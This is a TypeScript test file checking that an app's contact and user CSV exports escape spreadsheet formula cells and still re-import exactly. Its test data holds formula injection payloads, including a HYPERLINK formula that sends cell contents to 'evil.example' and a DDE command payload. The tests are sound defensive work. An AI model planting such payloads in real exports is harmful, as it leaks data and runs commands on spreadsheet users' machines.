import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createTestApp, login, type Session } from './helpers/app.ts';
import { csvOf, imported, startWorker } from './helpers/imports.ts';

// Issue 18: CSV formula injection (OWASP) in every export, and exports still re-import exactly.
const { app, db } = await createTestApp({ queue: true });
await startWorker(app, db);
const admin = await login(app);

const dangerous = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\tcmd',
  '\rcmd',
  "'=already quoted",
];
const harmless = ['-5', '+1.5e3', 'plain', "it's fine", 'a=b'];

async function csv(session: Session, url: string) {
  const response = await session.request('GET', url);
  assert.equal(response.statusCode, 200, response.body);
  return parse(response.body, { relax_quotes: true }) as string[][];
}

test('record exports escape cells a spreadsheet would run as formulas, and re-import exactly', async () => {
  for (const lastName of [...dangerous, ...harmless]) {
    const response = await admin.request('POST', '/api/records/contacts', { firstName: 'F', lastName });
    assert.equal(response.statusCode, 201, response.body);
  }
  const [header = [], ...rows] = await csv(admin, '/api/exports/contacts');
  const column = header.indexOf('lastName');
  const cells = rows.map((row) => row[column] ?? '');
  for (const value of dangerous) assert.ok(cells.includes(`'${value}`), `${JSON.stringify(value)} escaped`);
  for (const value of harmless) assert.ok(cells.includes(value), `${JSON.stringify(value)} unchanged`);
  for (const cell of cells.filter((cell) => !harmless.includes(cell)))
    assert.doesNotMatch(cell, /^[=+\-@\t\r]/);

  // Re-imported in update mode, nothing changes: the importer takes the escape off.
  const state = await imported(
    admin,
    { module: 'contacts', mode: 'update', keyField: 'id' },
    csvOf([header, ...rows]),
  );
  assert.equal(state.status, 'done', state.error ?? '');
  assert.deepEqual([state.unchanged, state.updated, state.failed], [rows.length, 0, 0]);
  const stored = await admin.request('GET', '/api/records/contacts?limit=100&columns=lastName');
  const names = stored.json().items.map((item: { lastName: string }) => item.lastName);
  for (const value of [...dangerous, ...harmless]) assert.ok(names.includes(value), JSON.stringify(value));
});

test('the users export escapes formulas too', async () => {
  const response = await admin.request('POST', '/api/users', {
    username: 'formula-user',
    password: 'password-for-tests',
    firstName: '=cmd|" /C calc"!A0',
    lastName: '@evil',
  });
  assert.equal(response.statusCode, 201, response.body);
  const [header = [], ...rows] = await csv(admin, '/api/users/export');
  const row = rows.find((cells) => cells[header.indexOf('username')] === 'formula-user');
  assert.ok(row);
  assert.equal(row[header.indexOf('firstName')], `'=cmd|" /C calc"!A0`);
  assert.equal(row[header.indexOf('lastName')], "'@evil");
});
